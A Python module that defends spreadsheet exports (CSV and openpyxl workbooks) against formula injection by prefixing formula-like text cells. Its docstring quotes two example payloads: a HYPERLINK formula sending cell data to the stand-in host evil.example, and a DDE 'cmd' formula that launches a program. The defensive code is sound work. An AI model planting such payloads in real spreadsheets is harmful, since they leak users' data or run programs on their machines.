"""Writing tables users open in spreadsheets: text cells that can never run as formulas.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula: ``=HYPERLINK("http://evil.example/?"&A1)``
typed into a plan field would leak data, ``=cmd|' /C calc'!A0`` would run a program. Every
export (CSV downloads, the yearly report's workbook, footprint and import tables) writes text
through :func:`safe_text` (CSV: the OWASP advice, a leading apostrophe) or
:func:`neutralise_workbook` (Excel: the cell typed as text with Excel's quote prefix).
Numbers stay numbers; text that is itself a plain number (``-12,5``) is left alone.

May import: :mod:`nettonul.engine.core` and the standard library.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

#: Characters that make a spreadsheet read a text cell as a formula (or split it into one).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d.,\u00a0 ]*)?\d(?:[eE][+-]?\d+)?(?: ?%)?")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could evaluate ``text``: it starts with a formula character and
    is not simply a signed number (``-12.5``, ``+3 %``)."""
    return text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text.strip())


def safe_text(value: Any) -> Any:
    """``value`` unchanged unless it is formula-like text, which gets a leading apostrophe."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_text(rows: Iterable[Sequence[Any]], *, delimiter: str = ",") -> str:
    """Rows as CSV text (``\\n`` line ends), every text cell passed through :func:`safe_text`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    for row in rows:
        writer.writerow([safe_text(v) for v in row])
    return buffer.getvalue()


def neutralise_workbook(workbook: Any) -> int:
    """Store every formula-like text cell of an openpyxl workbook as text; the count changed.

    openpyxl stores any string that starts with ``=`` as a formula, so text from users must be
    marked as text after it is written. A workbook that should contain real formulas must not
    be passed here. The cell keeps its exact text, typed as a string with the quote-prefix
    style (what Excel stores when one types ``'=...``), so it shows as written, is never
    evaluated and stays text when the cell is edited.
    """
    changed = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and is_formula_like(value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    changed += 1
    return changed


def xlsx_bytes(rows: Iterable[Sequence[Any]], *, sheet: str = "Data") -> bytes:
    """Rows as a one-sheet Excel workbook (numbers as numbers, the first row bold as the
    header), every formula-like text cell kept as text (:func:`neutralise_workbook`)."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook()
    ws = workbook.active
    ws.title = sheet[:31]
    for row in rows:
        ws.append(list(row))
    for cell in ws[1]:
        cell.font = Font(bold=True)
    neutralise_workbook(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
